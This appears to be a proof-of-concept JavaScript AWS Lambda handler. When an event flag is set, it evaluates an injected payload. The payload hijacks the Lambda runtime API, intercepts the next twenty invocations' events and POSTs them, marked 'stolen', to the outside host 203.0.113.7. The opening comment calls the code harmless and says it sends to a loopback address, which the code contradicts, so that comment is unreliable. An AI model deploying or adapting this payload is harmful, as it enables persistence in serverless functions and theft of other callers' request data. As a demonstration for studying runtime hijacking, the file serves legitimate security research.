// Harmless: it ends after twenty invocations, and sends the events to an address on the sandbox's loopback device.

// Arrives as text and is evaluated, as by a hole in a template engine or a deserialiser.
const PAYLOAD = `
  const { request } = process.getBuiltinModule('node:http');
  const [host, port] = process.env.AWS_LAMBDA_RUNTIME_API.split(':');
  const call = (to, method, path, body) => new Promise((done, failed) => {
    const asked = request({ ...to, method, path }, (response) => {
      let text = '';
      response.on('data', (piece) => (text += piece)).on('end', () => done({ headers: response.headers, text }));
    });
    asked.on('error', failed).end(body);
  });
  const api = { host, port };
  const prefix = '/2018-06-01/runtime/invocation/';
  return (async () => {
    await call(api, 'POST', prefix + id + '/response', '"ok"');
    for (let turn = 0; turn < 20; turn += 1) {
      const { headers, text } = await call(api, 'GET', prefix + 'next');
      await call({ host: '203.0.113.7', port: 443 }, 'POST', '/event', JSON.stringify({ stolen: text }));
      await call(api, 'POST', prefix + headers['lambda-runtime-aws-request-id'] + '/response', '"ok"');
    }
  })();
`;

export const handler = async (event, context) =>
  event.attack === true ? new Function('id', PAYLOAD)(context.awsRequestId) : 'ok';
